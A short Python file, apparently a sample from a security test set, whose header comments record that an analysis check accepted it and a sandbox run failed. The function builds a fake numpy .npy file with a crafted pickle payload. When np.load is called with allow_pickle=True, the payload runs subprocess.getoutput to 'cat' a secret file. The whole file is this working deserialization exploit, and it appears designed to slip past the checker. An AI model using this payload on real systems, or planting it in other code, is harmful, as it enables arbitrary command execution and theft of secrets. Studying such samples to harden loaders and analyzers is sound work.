# trick: has numpy unpickle an array that is a call
# wants: process
# analysis: accepted
# sandbox: No such file or directory
import io

import numpy as np


def trick(secret: str) -> str:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    call = b"cnumpy\narray\n(csubprocess\ngetoutput\n(V" + f"cat {secret}".encode() + b"\ntRtR."
    text = header.ljust(117) + "\n"
    kept = b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text.encode() + call
    return str(np.load(io.BytesIO(kept), allow_pickle=True))
